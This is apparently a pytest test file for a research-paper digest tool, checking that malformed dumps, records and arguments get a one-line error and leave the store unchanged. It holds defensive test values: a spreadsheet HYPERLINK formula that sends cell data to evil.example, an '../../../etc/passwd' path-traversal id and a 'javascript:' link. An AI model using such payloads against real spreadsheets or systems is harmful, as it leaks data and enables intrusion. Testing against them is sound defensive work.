"""Bad input gets a message naming file, line and field; a failed ingest writes nothing."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import os
import resource
import shutil
import signal
import subprocess
import sys
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml

from digest.check import check_store
from digest.cli import main
from digest.ingest import ingest
from digest.records.store import load_papers, record_path
from digest.text.sentences import split_sentences

from .conftest import DATA, REPO, dump, mkdocs_build, snapshot, with_rules

ABSTRACT = "We present Alpha, a system that serves large models on one GPU with less memory. " * 5


def run_ingest(store, *files, extra=()):
    return main(["ingest", "--data", str(store), "--listing-year", "2025", *extra, *map(str, files)])


@pytest.fixture
def good_dump(tmp_path):
    path = tmp_path / "good.txt"
    path.write_text(f"Alpha: Serving\n\n{ABSTRACT}\n", encoding="utf-8")
    return path


@pytest.mark.parametrize(
    "name, content, expected",
    [
        ("empty.txt", b"", "empty file"),
        ("blank.txt", b"\n  \n\n", "empty file"),
        ("binary.bin", b"\x89PNG\r\n\x1a\n\x00\x00\x00IHDR", ":3: binary data"),
        ("latin1.txt", f"Alpha\n{ABSTRACT}\nCaf\xe9: Serving\n".encode("latin-1"), ":3: not UTF-8 text (byte 0xe9"),
        ("prose.txt", b"just some words\n", "found no paper entries"),
    ],
)
def test_unreadable_dump_stops_the_run_and_writes_nothing(tmp_path, store, good_dump, capsys, name, content, expected):
    bad = tmp_path / name
    bad.write_bytes(content)
    assert run_ingest(store, good_dump, bad) == 1
    err = capsys.readouterr().err
    assert f"error: {bad}" in err and expected in err
    assert snapshot(store) == {}


def test_directory_and_missing_path_are_named(tmp_path, store, good_dump, capsys):
    assert run_ingest(store, good_dump, tmp_path) == 1
    assert f"error: {tmp_path}: is a directory" in capsys.readouterr().err
    assert run_ingest(store, good_dump, tmp_path / "nope.txt") == 1
    assert f"error: {tmp_path / 'nope.txt'}: no such file" in capsys.readouterr().err
    assert snapshot(store) == {}


def test_bom_and_crlf_parse_like_plain_text(tmp_path, store):
    plain = dump("002").read_text(encoding="utf-8")
    odd = tmp_path / "bom-crlf.txt"
    odd.write_bytes(b"\xef\xbb\xbf" + plain.replace("\n", "\r\n").encode("utf-8"))
    report = ingest([odd], store, listing_year=2025)
    assert len(report.new) == 55 and report.skipped == []
    galore = yaml.safe_load((store / "papers" / "galore.yaml").read_text())
    plain_galore = plain.split("\n").index("GaLore: Memory-Efficient LLM Training by Gradient Low-Rank Projection")
    assert galore["sources"][0]["line"] == plain_galore + 1 and not galore["title"].endswith("\r")


def test_bad_entries_are_skipped_and_their_neighbours_kept(tmp_path, store, capsys):
    long_line = "x" * 1_048_576
    path = tmp_path / "mixed.txt"
    path.write_text(
        f"Orphan Title With No Abstract\n\nAlpha: Serving\n\n{ABSTRACT}\n\n"
        f"Beta: Huge\n\n{long_line}\n\nGamma: Training\n\n{ABSTRACT}\n",
        encoding="utf-8",
    )
    assert run_ingest(store, path) == 0
    out = capsys.readouterr().out
    assert f"skipped: {path}:1: title 'Orphan Title With No Abstract' has no abstract" in out
    assert f"skipped: {path}:9: line of 1,048,576 characters" in out
    assert f"skipped: {path}:7: title 'Beta: Huge' lost its abstract" in out
    assert sorted(p.name for p in (store / "papers").iterdir()) == ["alpha.yaml", "gamma.yaml"]


def test_strict_refuses_the_whole_file(tmp_path, store, good_dump, capsys):
    path = tmp_path / "one-bad.txt"
    path.write_text(f"Alpha: Serving\n{ABSTRACT}\nOrphan Title\n", encoding="utf-8")
    assert run_ingest(store, good_dump, path, extra=["--strict"]) == 1
    err = capsys.readouterr().err
    assert f"{path}:3: title 'Orphan Title' has no abstract" in err and "--strict" in err
    assert snapshot(store) == {}


@pytest.mark.parametrize(
    "old, new, field, expected",
    [
        (
            "title: 'GaLore",
            "title: [unclosed 'GaLore",
            "title",
            "YAML syntax error at column 8: the list opened by '['",
        ),
        ("upvotes: 15", "upvotes: fifteen", "upvotes", "upvotes: expected a whole number"),
        ("topics: []", "topics: offloading", "topics", "topics: expected a list"),
        ("published: '2024-03-06'", "published: 2024-02-30", "published", "published: no such date: 2024-02-30"),
        ("published: '2024-03-06'", "published: last spring", "published", "published: expected a date like"),
        ("published: '2024-03-06'", "published: 2024-13", "published", "published: no such date: 2024-13"),
        ("  line: ", "  line: -", "  line", "sources[0].line: must be at least 1, got -"),
        ("sources:", "colour: blue\nsources:", "colour", "colour: unknown field; known fields are: id, "),
        # a misspelt field is named with the one it most likely is
        (
            "upvotes: 15",
            "upvots: 15",
            "upvots",
            "upvots: unknown field; did you mean 'upvotes'? known fields are: id, ",
        ),
    ],
)
def test_broken_record_is_reported_and_ingest_refuses(store, capsys, old, new, field, expected):
    ingest([dump("002")], store, listing_year=2025)
    record = store / "papers" / "galore.yaml"
    text = record.read_text().replace(old, new, 1)
    record.write_text(text)
    line = next(n for n, line in enumerate(text.split("\n"), 1) if line.startswith(field + ":"))
    expected = f"galore.yaml:{line}: {expected}"
    before = snapshot(store)
    assert main(["check", "--data", str(store)]) == 1
    assert expected in capsys.readouterr().out
    assert run_ingest(store, dump("000")) == 1
    err = capsys.readouterr().err
    assert "fix them first" in err and expected in err
    assert snapshot(store) == before


HEADLINE = "overrides:\n  headline:\n    metric: speedup\n    value: 2×\n"  # lines 11 to 14 of holmes.yaml
SAME_INDENT = "give the keys of one mapping the same indent (spaces, 2 per level)"


@pytest.mark.parametrize(
    "old, new, expected",
    [
        (  # the walkthrough's case: a key moved left, so the next line reads as more of its value
            "    metric: speedup",
            "  metric: speedup",
            "14: YAML syntax error at column 5: this line is indented more than line 13 above it (4 spaces "
            f"against 2 spaces), so YAML reads it as more of line 13's value, where no key can start: {SAME_INDENT}",
        ),
        (
            "    metric: speedup",
            "      metric: speedup",
            "14: YAML syntax error at column 5: this line is indented 4 spaces and line 13 above it 6 spaces, "
            "and it lines up with no key it could belong beside: the keys of one mapping start in the same column, "
            "a nested mapping's further right; indent with spaces, 2 per level",
        ),
        (
            "    metric: speedup",
            "\tmetric: speedup",
            "13: YAML syntax error at column 1: a tab; YAML indents with spaces only: replace it with spaces, "
            "2 per level",
        ),
        (
            "notes: ''",
            "notes:''",
            "10: YAML syntax error at column 6: no space after the colon, so YAML reads \"notes:''\" as one word, "
            "not a key and its value: write \"notes: ''\"",
        ),
        (
            "title: 'Holmes: Towards Distributed Training Across Clusters with Heterogeneous NIC Environment'",
            "title: Holmes: Towards Distributed Training",
            "2: YAML syntax error at column 14: a colon and a space inside a value not in quotes read as a second "
            "key: put the whole value in quotes, title: 'Holmes: Towards Distributed Training'",
        ),
        (
            "NIC Environment'",
            "NIC Environment",
            "2: YAML syntax error at column 8: the quote opened here closes only at line 3, column 12, where more "
            "text follows: close it on this line (a quote inside single quotes is written twice: 'it''s')",
        ),
        (
            "title: 'Holmes: Towards",
            "title: 'Holmes's Towards",
            "2: YAML syntax error at column 8: the quote opened here closes at column 15, and more text follows: "
            "a quote inside single quotes is written twice ('it''s'), or put the value in double quotes",
        ),
        (
            "topics: []",
            "topics: - parallelism",
            "8: YAML syntax error at column 9: a list starts on the line after its key, one '- item' a line; "
            "or write it on the key's line as [a, b]",
        ),
    ],
)
def test_a_yaml_mistake_is_said_in_plain_words_at_the_line_to_fix(tmp_path, capsys, old, new, expected):
    """Not the parser's "mapping values are not allowed in this context" a line below the mistake."""
    store = small_store(tmp_path)
    path = store / "papers" / "holmes.yaml"
    text = path.read_text().replace("overrides: {}\n", HEADLINE)
    assert old in text
    path.write_text(text.replace(old, new, 1))
    assert main(["check", "--data", str(store)]) == 1
    assert capsys.readouterr().out.splitlines() == [f"{path}:{expected}"]


@pytest.mark.parametrize(
    "old, new, expected",
    [
        (  # a nested key moved right: the parser stops at the next key of the outer mapping
            "  headline:",
            "   headline:",
            "12: YAML syntax error at column 4: this line is indented 3 spaces where it belongs at 2 spaces, so YAML "
            "read the lines below it wrongly and stopped at line 15: indent it 2 spaces (spaces, 2 per level)",
        ),
        (
            "  headline:",
            " headline:",
            "12: YAML syntax error at column 2: this line is indented 1 space where it belongs at 2 spaces, so YAML "
            "read the lines below it wrongly and stopped at line 15: indent it 2 spaces (spaces, 2 per level)",
        ),
        (  # the first line of a record
            "id: holmes",
            " id: holmes",
            "1: YAML syntax error at column 2: this line is indented 1 space where it belongs at 0 spaces, so YAML "
            "read the lines below it wrongly and stopped at line 2: remove its indent",
        ),
    ],
)
def test_an_indent_the_parser_notices_lines_below_is_said_at_the_line_to_fix(tmp_path, capsys, old, new, expected):
    """Not at the later line where the parser stopped, which is right where it is (model_scale, line 15)."""
    store = small_store(tmp_path)
    path = store / "papers" / "holmes.yaml"
    text = path.read_text().replace("overrides: {}\n", HEADLINE + "  model_scale:\n  - 7B\n")
    assert old in text
    path.write_text(text.replace(old, new, 1))
    assert main(["check", "--data", str(store)]) == 1
    assert capsys.readouterr().out.splitlines() == [f"{path}:{expected}"]


# ------------------------------------------------------------------------------------------------
# The corpus of issue 14: one file in tests/fixtures/bad/ per case (or, for what no file can be,
# a FIFO or a missing folder, a case built on disk). Each gets its exact one-line message and exit
# code, from every command that reads it, and leaves the store byte for byte as it was.

BAD = Path(__file__).parent / "fixtures" / "bad"
REPLAYS = Path(__file__).parent / "fixtures" / "responses"
EXPECTED_FORMATS = (
    "expected hf-daily-api (the JSON of the Hugging Face Daily Papers API: a list of items, each "
    "with its `paper`); arxiv-atom (an Atom feed of the arXiv API: one <entry> per paper); hf-daily-text "
    "(a text dump of a Hugging Face Daily Papers listing page: titles, abstracts, optional metadata)"
)
RECORD_COMMANDS = (["check"], ["pages", "--out", "{out}"])
# Every command that reads the rejected papers: the topic model learns from them, and fetch and
# ingest keep them out.
REJECTED_COMMANDS = (
    *RECORD_COMMANDS,
    ["review"],
    ["eval"],
    ["accept", "holmes"],
    ["fetch", "hf-daily", "--data", "{data}", "--from", str(REPLAYS), "--date", "2025-01-23", "--dry-run"],
)


@dataclass
class Case:
    file: str  # in tests/fixtures/bad, or a name for a case built on disk
    place: str  # "dump", "record", "taxonomy", "hardware", or how a file-less case is made
    message: str  # the exact line ({file}: where the case lies in the store or on disk)
    code: int = 1
    commands: tuple[list[str], ...] = (["ingest", "--listing-year", "2025", "{file}"],)


CASES = [
    # Junk from the wrong file: refused at the door, nothing written.
    Case(
        "json-object.json",
        "dump",
        f"{{file}}: looks like JSON, which no input format of the digest reads; {EXPECTED_FORMATS}",
    ),
    Case(
        "daily-papers-page.html",
        "dump",
        f"{{file}}: looks like HTML, which no input format of the digest reads; {EXPECTED_FORMATS}",
    ),
    Case(
        "record-as-dump.yaml",
        "dump",
        f"{{file}}: looks like YAML, which no input format of the digest reads; {EXPECTED_FORMATS}",
    ),
    # API answers that are broken, cut off or not what they claim: refused whole, with the reason.
    Case(
        "hf-api-cut-off.json",
        "dump",
        "{file}:2: the JSON ends inside item 1, which starts here: the file was cut off; fetch or save it again",
    ),
    Case(
        "hf-api-items-without-ids.json",
        "dump",
        "{file}: found no Daily Papers items with an arXiv id, a title and a "
        "summary (item skipped: paper.id is missing, not an arXiv id); is this an answer of the Hugging Face Daily "
        "Papers API?",
    ),
    Case(
        "arxiv-listing.atom",
        "dump",
        "{file}: found no arXiv entries with an id, a title and a summary (entry "
        "skipped: <id> is missing, not an arXiv id); is this an answer of the arXiv API?",
    ),
    Case(
        "arxiv-cut-off.atom",
        "dump",
        "{file}:35: not well-formed XML (no element found): the response was cut off, "
        "or is not an answer of the arXiv API",
    ),
    Case(
        "arxiv-api-error.atom",
        "dump",
        "{file}:10: the arXiv API answered with an error: incorrect id format for 2307.0869v",
    ),
    Case(
        "mostly-junk.txt",
        "dump",
        "{file}:5: 6 of 7 blocks are not paper entries (the first: title 'column 0, "
        "value 0, another value' has no abstract: skipped); this is not a Hugging Face Daily Papers dump, or a "
        "badly broken one, so none of it is ingested",
    ),
    Case(
        "nul-past-64k.txt",
        "dump",
        "{file}:723: binary data (a NUL byte): expected a UTF-8 text dump; delete the "
        "NUL bytes (tr -d '\\000') if the rest is text",
    ),
    Case(
        "named-pipe",
        "fifo",
        "{file}: is a named pipe (FIFO), not a regular file; save the dump to a file and ingest that",
    ),
    # Odd arguments: usage errors.
    Case(
        "no-such-store",
        "missing store",
        "{file}: no such folder; --data names a store (a folder holding papers/, "
        "sources/, taxonomy.yaml and hardware.yaml). To start a new one: mkdir -p {file}",
        2,
        (["ingest", "--data", "{file}", str(BAD / "odd-file-name.txt")], ["check", "--data", "{file}"]),
    ),
    Case(
        "year-99999",
        "argument",
        "digest ingest: error: argument --listing-year: 99999 is not a listing year; give one from 1990 to 2100",
        2,
        (["ingest", "--listing-year", "99999", str(BAD / "odd-file-name.txt")],),
    ),
    Case(
        "year-minus-5",
        "argument",
        "digest ingest: error: argument --listing-year: -5 is not a listing year; give one from 1990 to 2100",
        2,
        (["ingest", "--listing-year=-5", str(BAD / "odd-file-name.txt")],),
    ),
    # Records a careless hand writes: check, the build and ingest all name the file, line and field.
    *[
        Case(name, "record", message, 1, RECORD_COMMANDS)
        for name, message in [
            (
                "control-character.yaml",
                "{file}:2: holds the control character U+0007, which YAML does not allow; delete it",
            ),
            (
                "control-character-escaped.yaml",
                "{file}:2: title: holds the control character U+009B at position 7; delete it",
            ),
            ("upvotes-5000-digits.yaml", "{file}:3: upvotes: a number of 5,000 digits is not a count; check the value"),
            ("title-nested-1000.yaml", "{file}:2: title: expected text, got a list"),
            (
                "overrides-hardware-number.yaml",
                "{file}:3: overrides.hardware[0]: expected text, got a whole number '4090' (quote it: '4090')",
            ),
            ("overrides-system-empty.yaml", "{file}:3: overrides.system: is empty"),
            ("overrides-gpu-count-null.yaml", "{file}:3: overrides.gpu_count[0]: expected text, got nothing (null)"),
            (
                "topics-twice.yaml",
                "{file}:4: topics: duplicate key: YAML keeps only the last one; keep one and delete the other",
            ),
            (
                "link-javascript.yaml",
                "{file}:3: links[0]: 'javascript:alert(1)' is not an http(s) address; links must "
                "start with https:// or http://",
            ),
            (
                "alias-bomb.yaml",
                "{file}:2: YAML anchors and aliases (&name, *name) are not allowed here; write the value out in full",
            ),
            (
                "invalid-yaml.yaml",
                "{file}:2: YAML syntax error at column 8: the list opened by '[' here is not closed: end it with ']' "
                "and separate its items with ', '; if the value is text starting with '[', put it in quotes",
            ),
            ("wrong-type.yaml", "{file}:3: upvotes: expected a whole number, got a list"),
            (
                "unknown-field.yaml",
                "{file}:3: colour: unknown field; known fields are: id, title, abstract, arxiv_id, "
                "published, added, authors, authors_count, organization, upvotes, links, code_repository, project_page, "
                "topics, tags, notes, overrides, abstract_truncated, sources",
            ),
            (
                "arxiv-id-with-version.yaml",
                "{file}:3: arxiv_id: 'arXiv:2307.08691v2' is not an arXiv id without its version; write '2307.08691'",
            ),
            (
                "arxiv-id-impossible.yaml",
                "{file}:3: arxiv_id: '2403.3507' is no arXiv id: an id from January 2015 (1501) on has a 5-digit "
                "number after the dot, like 2307.08691, not 4; copy the id from the paper's arXiv page",
            ),
            (
                "arxiv-id-month-13.yaml",
                "{file}:3: arxiv_id: '2613.01234' is no arXiv id: 13 is no month: a new-style id starts with the "
                "year and month of its announcement, YYMM; copy the id from the paper's arXiv page",
            ),
            (
                "arxiv-id-number.yaml",
                "{file}:3: arxiv_id: expected text, got a number '2307.08691' (quote it: '2307.08691')",
            ),
            (
                "authors-not-a-list.yaml",
                "{file}:4: authors: expected a list, got text 'Tri Dao, Daniel Y. Fu'; "
                "write authors: [Tri Dao, Daniel Y. Fu]",
            ),
            ("missing-title.yaml", "{file}:1: title: missing; every entry needs id, title and abstract"),
            (
                "unknown-topic.yaml",
                "{file}:3: topics: unknown topic 'quantum'; topics are: hardware, kernels, offloading, "
                "other, parallelism, serving",
            ),
            (
                "id-path-traversal.yaml",
                "{file}:1: id: '../../../etc/passwd' is not a slug (lowercase letters, digits and single hyphens)",
            ),
            (
                "id-of-another-record.yaml",
                "{file}:1: id: 'galore' does not match the file name "
                "'id-of-another-record.yaml'; an id never changes once given: name the file galore.yaml again, "
                "or put back id: id-of-another-record",
            ),
        ]
    ],
    # A rejected paper is a record too, with who rejected it and when: named in the same words.
    *[
        Case(name, "rejected", message, 1, REJECTED_COMMANDS)
        for name, message in [
            ("rejected-missing-title.yaml", "{file}:1: title: missing; every entry needs id, title and abstract"),
            ("rejected-missing-id.yaml", "{file}:1: id: missing; every entry needs id, title and abstract"),
            ("rejected-missing-abstract.yaml", "{file}:1: abstract: missing; every entry needs id, title and abstract"),
            (
                "rejected-missing-rejected-on.yaml",
                "{file}:1: rejected_on: missing; a rejected paper says who rejected it and when",
            ),
        ]
    ],
    Case("record-is-a-folder.yaml", "folder record", "{file}: is a directory, not a record", 1, RECORD_COMMANDS),
    Case("record-is-a-dangling-link.yaml", "dangling record", "{file}: no such record", 1, RECORD_COMMANDS),
    # Issue 21: what hung, crashed or slipped through, refused in one line.
    *[
        Case(name, "record", message, 1, RECORD_COMMANDS)
        for name, message in [
            (
                "arxiv-id-unicode-digits.yaml",
                "{file}:3: arxiv_id: '２３０７.０８６９１' is not an arXiv id without its version; "
                "like '2307.08691', or 'hep-th/9901001' for an older paper",
            ),
            (
                "record-nested-100000.yaml",
                "{file}:3: lists and mappings nested more than 1,500 deep; no record, taxonomy "
                "or catalogue needs that: check the file",
            ),
            (
                "published-9999.yaml",
                "{file}:3: published: 9999-12-31 is after next year ({next_year}); write the day it "
                "was published, or null when unknown",
            ),
            ("tag-without-a-letter.yaml", "{file}:3: tags[1]: '_': a tag needs a letter or a digit to name its page"),
        ]
    ],
    Case(
        "record-is-a-fifo.yaml",
        "fifo record",
        "{file}: is a named pipe (FIFO), not a regular file; a record is a "
        "YAML file: delete it, or replace it with the file",
        1,
        # accept and reject read only the records they name: named, the FIFO is refused
        (
            *RECORD_COMMANDS,
            ["accept", "record-is-a-fifo", "--topics", "kernels"],
            ["reject", "record-is-a-fifo", "--by", "curator"],
            ["review"],
        ),
    ),
    Case(
        "hf-api-nested-1000.json",
        "dump",
        "{file}:2: item 1 nests lists or objects about 1,000 deep, which no API's answer does",
    ),
    Case(
        "hf-api-5001-digits.json",
        "dump",
        "{file}:2: item 1 holds a number of 5,001 digits, which no field of an API's answer has: not an API's answer",
    ),
    *[
        Case(
            name,
            "argument",
            f"digest fetch hf-daily: error: argument {option}: {message}",
            2,
            (["fetch", "hf-daily", "--data", "{data}", option, value],),
        )
        for name, option, value, message in [
            ("timeout-nan", "--timeout", "nan", "nan is not a number"),
            ("timeout-inf", "--timeout", "inf", "inf is not a number"),
            ("retries-huge", "--retries", "1e400", "invalid number: '1e400'"),
            ("since-9999", "--since", "9999-12-31", "9999-12-31 is not a day from 1990 to 2100"),
            ("date-feb-30", "--date", "2025-02-30", "'2025-02-30' is not a day like 2025-03-06"),
            (
                "add-impossible-id",
                "--add",
                "2606.0630",
                "'2606.0630' is no arXiv id: an id from January 2015 (1501) on has a 5-digit number after the dot, "
                "like 2307.08691, not 4",
            ),
        ]
    ],
    Case(
        "explain-a-path",
        "command",
        "no paper with id '../papers/flashattention-2' in {data}/papers (did you mean 'flashattention-2'?)",
        2,
        (["explain", "--data", "{data}", "--", "../papers/flashattention-2"],),
    ),
    Case(
        "taxonomy-broken.yaml",
        "taxonomy",
        "{file}:4: YAML syntax error at column 11: the list opened by '[' here is not closed: end it with ']' "
        "and separate its items with ', '; if the value is text starting with '[', put it in quotes",
        1,
        RECORD_COMMANDS,
    ),
    Case(
        "hardware-broken.yaml",
        "hardware",
        "{file}:1: hardware[0].class: missing; every entry needs name, aliases, vendor and class",
        1,
        RECORD_COMMANDS,
    ),
]


def small_store(folder: Path) -> Path:
    """Seven real records with the dumps they cite, and the repo's taxonomy and catalogue."""
    data = folder / "data"
    shutil.copytree(Path(__file__).parent / "fixtures" / "store", data)
    for name in ("taxonomy.yaml", "hardware.yaml", "sources"):
        (shutil.copytree if name == "sources" else shutil.copy)(DATA / name, data / name)
    return data


def place(case: Case, store: Path, tmp_path: Path) -> Path:
    """Put the case where it does its harm; return the path its message names."""
    source = BAD / case.file
    targets = {
        "record": store / "papers" / case.file,
        "taxonomy": store / "taxonomy.yaml",
        "hardware": store / "hardware.yaml",
        "rejected": store / "rejected" / case.file,
    }
    if case.place in targets:
        targets[case.place].parent.mkdir(exist_ok=True)
        shutil.copy(source, targets[case.place])
        return targets[case.place]
    path = {
        "folder record": store / "papers" / case.file,
        "dangling record": store / "papers" / case.file,
        "dump": source,
    }.get(case.place, tmp_path / case.file)
    if case.place == "fifo":
        os.mkfifo(path)
    elif case.place == "fifo record":
        os.mkfifo(store / "papers" / case.file)
        return store / "papers" / case.file
    elif case.place == "folder record":
        path.mkdir()
    elif case.place == "dangling record":
        path.symlink_to(tmp_path / "gone.yaml")
    return path


def run_digest(args: list[str], capsys) -> tuple[int, list[str]]:
    """`digest ARGS`, in this process (an exception would fail the test): exit code and output lines."""
    try:
        code = main(args)
    except SystemExit as exited:  # argparse's usage errors
        code = int(exited.code or 0)
    out = capsys.readouterr()
    return code, (out.out + out.err).splitlines()


@pytest.mark.parametrize("case", CASES, ids=[case.file for case in CASES])
def test_every_bad_input_gets_its_one_line_and_changes_nothing(case, tmp_path, capsys):
    store = small_store(tmp_path)
    path = place(case, store, tmp_path)
    before = tree_hash(store)
    for command in case.commands:
        args = [arg.format(file=path, out=tmp_path / "pages", data=store) for arg in command]
        if "--data" not in args:
            args[1:1] = ["--data", str(store)]
        code, lines = run_digest(args, capsys)
        shown = printed(case, command[0]).format(file=path, data=store, next_year=dt.date.today().year + 1)
        assert (code, shown) == (case.code, next((line for line in lines if line == shown), lines)), args
        assert tree_hash(store) == before, args
    assert not (tmp_path / "no-such-store").exists()  # a missing store is never made


def printed(case: Case, command: str) -> str:
    """The line a user sees: `check` lists each problem as it is, a command that stops says
    `error: ` first, and argparse prints its own usage error."""
    if case.place == "argument" or (command == "check" and case.code == 1):
        return case.message
    return f"error: {case.message}"


def tree_hash(folder: Path) -> str:
    """One sha256 over every path and byte under `folder` (links and folders by name)."""
    digest = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        digest.update(str(path.relative_to(folder)).encode("utf-8", "surrogateescape"))
        if path.is_file() and not path.is_symlink():
            digest.update(path.read_bytes())
    return digest.hexdigest()


# ------------------------------------------------------------------------------------------------
# The cases of the issue that now work: nothing lost, nothing written that check refuses.


def ingest_fixture(store: Path, *names: str, capsys) -> tuple[int, str]:
    code, lines = run_digest(
        ["ingest", "--data", str(store), "--listing-year", "2025", *(str(BAD / name) for name in names)], capsys
    )
    return code, "\n".join(lines)


def test_an_api_answer_once_refused_at_the_door_now_ingests_with_its_arxiv_id(store, capsys):
    """The Daily Papers JSON of issue 14's corpus: its format is registered, and its missing
    optional fields (authors, dates) are no reason to refuse it."""
    code, out = ingest_fixture(store, "hf-api-daily-papers.json", capsys=capsys)
    (paper,) = load_papers(store)
    assert code == 0 and "1 new, 0 updated" in out
    assert (paper.arxiv_id, paper.upvotes, paper.authors, paper.published) == ("2309.06180", 28, [], None)
    assert paper.sources[0].line == 2 and check_store(with_rules(store)) == []


def test_titles_without_letters_are_named_by_their_abstracts(store, capsys):
    code, out = ingest_fixture(store, "titles-without-letters.txt", capsys=capsys)
    papers = {paper.id: paper for paper in load_papers(store)}
    assert code == 0 and sorted(papers) == [
        "we-present-alpha-a-system-that-serves-large",
        "we-study-speculative-decoding-for-serving-language-models",
    ]
    assert [papers[pid].title for pid in sorted(papers)] == ["?!?!...", "---***---"]
    assert "titles-without-letters.txt:9: title '🚀🚀🚀' has no abstract: skipped" in out
    assert "2 new, 0 updated, 0 unchanged, 2 skipped" in out
    assert check_store(with_rules(store)) == []
    # Seen again, each is the same paper: matched on its abstract.
    assert ingest_fixture(store, "titles-without-letters.txt", capsys=capsys)[0] == 0
    assert len(load_papers(store)) == 2


def test_a_cut_off_abstract_is_marked_and_the_whole_text_replaces_it(store, capsys):
    code, out = ingest_fixture(store, "cut-off-dump.txt", capsys=capsys)
    assert (
        code == 0
        and (
            "note: " + str(BAD / "cut-off-dump.txt") + ":7: the file ends inside the abstract of "
            "'Beta: Training': kept, marked as cut off; a later dump with the whole text replaces it"
        )
        in out
    )
    beta = yaml.safe_load(record_path(store, "beta").read_text())
    assert beta["abstract_truncated"] is True and beta["abstract"].endswith("https://github.com/beta")
    assert beta["links"] == []  # half an address is no link
    assert check_store(with_rules(store)) == []
    assert ingest_fixture(store, "cut-off-dump-complete.txt", capsys=capsys)[0] == 0
    beta = yaml.safe_load(record_path(store, "beta").read_text())
    assert "abstract_truncated" not in beta and beta["abstract"].endswith("and runs on 8 GPUs.")
    assert beta["links"] == ["https://github.com/beta-org/beta-train"] and len(beta["sources"]) == 2
    # The shorter text never wins back, whatever the order.
    assert ingest_fixture(store, "cut-off-dump.txt", capsys=capsys)[0] == 0
    assert yaml.safe_load(record_path(store, "beta").read_text())["abstract"] == beta["abstract"]


def test_a_dump_whose_name_is_not_utf8_is_kept_under_a_name_that_reads_back(tmp_path, store, capsys):
    odd = Path(os.fsdecode(bytes(tmp_path) + b"/odd\xffname \x01.txt"))
    shutil.copy(BAD / "odd-file-name.txt", odd)
    code, out = run_digest(["ingest", "--data", str(store), str(odd)], capsys)
    assert code == 0 and "1 new, 0 updated" in "\n".join(out)
    assert [path.name for path in (store / "sources").iterdir()] == ["odd_name_.txt"]
    assert load_papers(store)[0].sources[0].file == "sources/odd_name_.txt"
    assert check_store(with_rules(store)) == []
    assert run_digest(["ingest", "--data", str(store), str(odd)], capsys)[0] == 0  # and again: the same store


def test_a_dump_whose_dates_are_all_malformed_is_ingested_with_its_dates_left_empty(store, capsys):
    code, out = ingest_fixture(store, "dates-all-malformed.txt", capsys=capsys)
    assert code == 0 and "2 new, 0 updated, 0 unchanged, 0 skipped" in out
    assert f"note: {BAD / 'dates-all-malformed.txt'}:9: no such date 'Feb 31': date left empty" in out
    assert [paper.published for paper in load_papers(store)] == [None, None]
    assert check_store(with_rules(store)) == []


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path, capsys):
    store = small_store(tmp_path)
    shutil.copy(BAD / "csv-injection.yaml", store / "papers")
    assert run_digest(["check", "--data", str(store)], capsys)[0] == 0
    assert run_digest(["pages", "--data", str(store), "--out", str(tmp_path / "out")], capsys)[0] == 0
    rows = {row["id"]: row for row in csv.DictReader((tmp_path / "out" / "papers.csv").open(encoding="utf-8"))}
    row = rows["csv-injection"]
    assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert (row["system"], row["headline"]) == ("'@SUM(1+1)", "'-2+3")
    assert all(not value.startswith(("=", "+", "-", "@")) for row in rows.values() for value in row.values())


def test_the_readme_says_which_csv_cells_take_an_apostrophe():
    """`+26.6 points` read `'+26.6 points` in pandas, and nothing said why (a reader's audit): the
    guard stays, for spreadsheets, and the README's exports say what it does to a cell."""
    from digest.render.exports import _FORMULA_STARTS

    readme = " ".join((REPO / "README.md").read_text(encoding="utf-8").split())
    said = (
        "A `papers.csv` cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is prefixed with "
        "an apostrophe, so that a spreadsheet shows it rather than running it as a formula"
    )
    assert said in readme
    assert set(_FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}  # what the sentence names


def test_a_read_only_papers_folder_changes_nothing(store, capsys):
    assert ingest_fixture(store, "odd-file-name.txt", capsys=capsys)[0] == 0
    before = tree_hash(store)
    with read_only(store / "papers"):
        code, out = ingest_fixture(store, "cut-off-dump-complete.txt", capsys=capsys)
    reason = "Operation not permitted" if os.geteuid() == 0 else "Permission denied"  # chattr +i, or mode 555
    assert code == 1 and out.endswith(
        f"error: {store / 'papers'}: cannot write here ({reason}); nothing was "
        "written: make the folder writable and run the command again"
    )
    assert tree_hash(store) == before  # the dump copy did not go into sources/ either
    assert ingest_fixture(store, "cut-off-dump-complete.txt", capsys=capsys)[0] == 0  # writable again: it works


@contextmanager
def read_only(folder: Path):
    """A folder no one may write into: immutable for root (who ignores permissions), else mode 555."""
    root = os.geteuid() == 0
    if root and shutil.which("chattr") is None:
        pytest.skip("running as root without chattr: no way to make a folder read-only")
    subprocess.run(["chattr", "+i", str(folder)], check=True) if root else folder.chmod(0o555)
    try:
        yield
    finally:
        subprocess.run(["chattr", "-i", str(folder)], check=True) if root else folder.chmod(0o755)


@pytest.mark.parametrize(
    "command, message",
    [
        (
            ["ingest", "--listing-year", "2025", "{dump}"],
            "{store}: cannot stage sources/{dump.name} (File too large); nothing was written",
        ),
        (
            ["pages", "--out", "{out}"],
            "{out}: cannot write the pages (File too large); what is there is incomplete: "
            "free the space or pick another --out, and run it again",
        ),
    ],
    ids=["ingest", "pages"],
)
def test_a_full_disk_gives_a_message_and_no_partial_write(tmp_path, command, message):
    """The disk fills up while writing: the process may write no byte past 2 KiB per file
    (RLIMIT_FSIZE, as a full disk refuses the write), and says so in one line."""
    store = small_store(tmp_path)
    before = tree_hash(store)
    new_dump = tmp_path / "new.txt"  # a dump the store does not keep yet, larger than 2 KiB
    new_dump.write_text("".join(f"Paper {i}: Serving\n\n{ABSTRACT}\n\n" for i in range(8)), encoding="utf-8")
    args = [arg.format(dump=new_dump, out=tmp_path / "out") for arg in command]

    def small_files():
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a failed write, not a killed process
        resource.setrlimit(resource.RLIMIT_FSIZE, (2048, 2048))

    result = subprocess.run(
        [sys.executable, "-m", "digest.cli", args[0], "--data", str(store), *args[1:]],
        capture_output=True,
        text=True,
        preexec_fn=small_files,
        check=False,
        timeout=120,
    )
    assert result.returncode == 1 and "Traceback" not in result.stderr
    names = {"store": store, "dump": new_dump, "out": tmp_path / "out"}
    assert result.stderr.strip().splitlines()[-1] == "error: " + message.format(**names)
    assert tree_hash(store) == before
    assert not list(store.glob(".staging-*"))


@pytest.mark.build
